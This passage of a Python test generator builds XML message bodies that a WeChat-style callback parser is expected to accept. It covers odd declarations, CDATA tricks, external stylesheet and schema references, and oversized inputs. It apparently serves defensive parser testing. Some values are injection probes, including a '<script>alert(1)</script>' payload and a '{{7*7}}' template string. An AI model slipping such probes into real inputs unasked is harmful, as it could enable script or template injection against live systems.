            "<Encrypt>QUJDRA==</Encrypt></xml>",
            "our own reply": "<xml><Encrypt>QUJDRA==</Encrypt><MsgSignature>a</MsgSignature>"
            "<TimeStamp>1</TimeStamp><Nonce>a</Nonce></xml>",
        }.items():
            yield Case(f"not a message: {name}", body.encode(), NOT_A_MESSAGE)

    def odd_but_right(self) -> Iterator[Case]:
        """What a strict reader might refuse, though nothing is wrong with it."""
        site = self._site
        declarations = {
            "a declaration": '<?xml version="1.0" encoding="UTF-8"?>',
            "a declaration in small letters": "<?xml version='1.0' encoding='utf-8'?>\n",
            "a declaration without an encoding": '<?xml version="1.0"?>',
            "version 1.1": '<?xml version="1.1"?>',
            "standing alone": '<?xml version="1.0" standalone="yes"?>',
            "another encoding declared": '<?xml version="1.0" encoding="GBK"?>',
            "UTF-16 declared": '<?xml version="1.0" encoding="UTF-16"?>',
            "UTF-7 declared": '<?xml version="1.0" encoding="UTF-7"?>',
            "an unknown encoding declared": '<?xml version="1.0" encoding="x-made-up"?>',
            "a byte order mark": "\ufeff",
            "a byte order mark and a declaration": '\ufeff<?xml version="1.0"?>',
            "blanks in front": "\r\n\t ",
            "a comment in front": "<!-- <!DOCTYPE xml> -->",
            "an instruction in front": "<?a <!DOCTYPE xml> ?>",
            "a stylesheet named": f'<?xml-stylesheet href="{site}/x.xsl" type="text/xsl"?>',
            "a catalog named": f'<?oasis-xml-catalog catalog="{site}/x.xml"?>',
        }
        for name, before in declarations.items():
            body = self._xml(before=before, Content="你好🌻").encode()
            yield Case(f"right: {name}", body, ACCEPTED, "你好🌻")
        contents = {
            "CDATA in two": ("<![CDATA[a]]><![CDATA[b]]>", "ab"),
            "CDATA in ten thousand": ("<![CDATA[x]]>" * 9_000, "x" * 9_000),
            "the end of CDATA, split": ("<![CDATA[a]]]]><![CDATA[>b]]>", "a]]>b"),
            "text around CDATA": ("a<![CDATA[<b>]]>c", "a<b>c"),
            "comments in the text": ("a<!-- <b> -->c<!---->d", "acd"),
            "instructions in the text": ("a<?b?>c<?php echo 1 ?>d", "acd"),
            "references": ("&lt;&#20320;&#x597D;&amp;&quot;&apos;&gt;&#x1F33B;", "<你好&\"'>🌻"),
            "references that look like more": ("&amp;lt;&#38;#60;", "&lt;&#60;"),
            "a document type in CDATA": ("<![CDATA[<!DOCTYPE xml>]]>", "<!DOCTYPE xml>"),
            "an entity in CDATA": ("<![CDATA[&e;]]>", "&e;"),
            "a message in CDATA": (
                "<![CDATA[<xml><MsgType>event</MsgType></xml>]]>",
                "<xml><MsgType>event</MsgType></xml>",
            ),
            "a script": ("<![CDATA[<script>alert(1)</script>]]>", "<script>alert(1)</script>"),
            "brackets": ("<![CDATA[]]]]>", "]]"),
            "JSON": ('{"a": "b"}', '{"a": "b"}'),
            "a placeholder": ("{FromUserName} {{7*7}} %s", "{FromUserName} {{7*7}} %s"),
            "line breaks": ("a\r\nb\rc\nd", "a\nb\nc\nd"),
            "a tab": ("a\tb", "a\tb"),
            "C1 controls and DEL": ("a\x7f\x80\x85\x9fb&#127;&#x80;c", "abc"),
            "characters beside the plane": ("𠀀\U0001fffe\U0010fffd", "𠀀\U0001fffe\U0010fffd"),
            "marks of direction": ("a\u202eb\u2066c", "a\u202eb\u2066c"),
            "a zero-width joiner": ("👨\u200d👩\u200d👧", "👨\u200d👩\u200d👧"),
            "a mark in the middle": ("a\ufeffb", "a\ufeffb"),
            "a line separator": ("a\u2028b", "a\u2028b"),
            "a hundred accents": ("e" + "\u0301" * 100, "e" + "\u0301" * 100),
            "a hundred thousand characters": ("x" * 100_000, "x" * 100_000),
            "forty thousand Chinese ones": ("微" * 40_000, "微" * 40_000),
            "twenty thousand references": ("&#65;" * 20_000, "A" * 20_000),
            "sixty thousand line breaks": ("x" + "\n" * 60_000 + "x", "x" + "\n" * 60_000 + "x"),
            "greater-than": ("a > b", "a > b"),
            "quotes": ("a\"b'c", "a\"b'c"),
        }
        for name, (content, read) in contents.items():
            yield Case(f"right: {name}", self._content(content).encode(), ACCEPTED, read)
        fields = self._fields()
        one_by_one = re.findall(r"<(?:\w+)>.*?</\w+>", self._fields())
        plain = {
            "pretty": re.sub("<([A-Z]|/xml)", r"\n  <\1", self._xml()),
            "a line for each field": re.sub("(</.*?>)", "\\1\r\n", self._xml()),
            "the fields in another order": f"<xml>{''.join(reversed(one_by_one))}</xml>",
            "a line break at the end": self._xml() + "\n",
            "a comment at the end": self._xml() + "<!-- </xml> -->",
            "an instruction at the end": self._xml() + "<?a?>",
            "comments between the fields": self._xml(end="<!-- <Content>other</Content> -->"),
            "instructions between the fields": self._xml(end=f"<?a href='{site}/x'?>"),
            "an empty CDATA between the fields": self._xml(end="<![CDATA[ \n]]>"),
            "blanks in the tags": self._xml().replace("Content>", "Content\n >"),
            "an attribute of the root": f'<xml a="b">{fields}</xml>',
            "attributes": self._xml().replace(
                "<Content>", "<Content a='1' xml:lang='zh' b='&lt;'>"
            ),
            "xml:base": self._xml().replace("<xml>", f'<xml xml:base="{site}/">'),
            "xml:space": self._xml().replace("<Content>", '<Content xml:space="preserve">'),
            "xml:id": self._xml().replace("<Content>", '<Content xml:id="a">'),
            "a schema named": self._xml().replace(
                "<xml>",
                '<xml xmlns:s="http://www.w3.org/2001/XMLSchema-instance" '
                f's:noNamespaceSchemaLocation="{site}/x.xsd">',
            ),
            "an unused namespace": self._xml().replace("<xml>", '<xml xmlns:a="urn:x">'),
            "an empty namespace": self._xml().replace("<xml>", '<xml xmlns="">'),
            "three thousand namespaces": self._xml().replace(
                "<xml>", "<xml" + "".join(f" xmlns:a{n}='u{n}'" for n in range(3_000)) + ">"
            ),
            "ten thousand attributes": self._xml().replace(
                "<xml>", "<xml" + "".join(f" a{n}=''" for n in range(10_000)) + ">"
            ),
            "an attribute of a hundred thousand": self._xml().replace(
                "<xml>", f"<xml a='{'b' * 100_000}'>"
            ),
            "unknown fields": self._xml(end="<New>1</New><_a.b-c/>"),
            "unknown nested ones": self._xml(end="<New><a>1</a><a>2</a><b>3</b></New>"),
            "text beside nested ones": self._xml(end="<New>x<a>1</a>y<a>2</a>z</New>"),
            "a field named xml": self._xml(end="<xml>1</xml>"),
            "a field in other letters": self._xml(end="<content>other</content>"),
            "a field in Chinese": self._xml(end="<微信>1</微信>"),
            "a field named like a dunder": self._xml(end="<__class__>1</__class__>"),
            "a name of forty thousand": self._xml(end=f"<{'a' * 40_000}/>"),
            "eight deep": self._xml(end=f"{'<a>' * 7}x{'</a>' * 7}"),
            "five hundred": self._xml(end="".join(f"<a{n}/>" for n in range(493))),
            "as many inside": self._xml(end=f"<a>{'<b>1</b>' * 492}</a>"),
            "blanks between the fields": self._xml(end=" " * 100_000),
            "a comment of a hundred thousand": self._xml(end=f"<!--{' ' * 100_000}-->"),
            "a largest MsgId": self._xml(MsgId=str(2**64 - 1)),
            "a MsgId in CDATA": self._xml(MsgId=f"<![CDATA[{2**63}]]>"),
            "a CreateTime in CDATA": self._xml(CreateTime=f"<![CDATA[{self._now}]]>"),
            "names without CDATA": self._xml(ToUserName=self._account, FromUserName=self._sender),
        }
        for name, body in plain.items():
            yield Case(f"right: {name}", body.encode(), ACCEPTED, "hello")
        full = self._padded(self._content("<![CDATA[@]]>"), LIMIT)
        content = "@" * full.count(b"@")
        yield Case("right: as long as can be", full, ACCEPTED, content)


CASES = cases()
